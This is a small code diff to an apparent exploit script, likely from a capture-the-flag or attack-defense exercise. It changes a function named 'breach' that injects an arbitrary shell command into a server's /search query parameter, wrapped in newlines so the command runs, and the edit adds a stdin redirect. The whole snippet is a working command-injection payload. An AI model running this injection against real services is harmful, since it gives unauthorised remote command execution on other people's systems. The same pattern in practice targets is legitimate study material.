@@ -16,4 +16,4 @@ def visit(host, rng):
 
 def breach(host, command):
     """The query of /search goes to a shell."""
-    return get(host, 3000, "/search?q=" + quote("x /dev/null\n" + command + "\ntrue", safe=""))
+    return get(host, 3000, "/search?q=" + quote("x /dev/null </dev/null\n" + command + "\ntrue", safe=""))
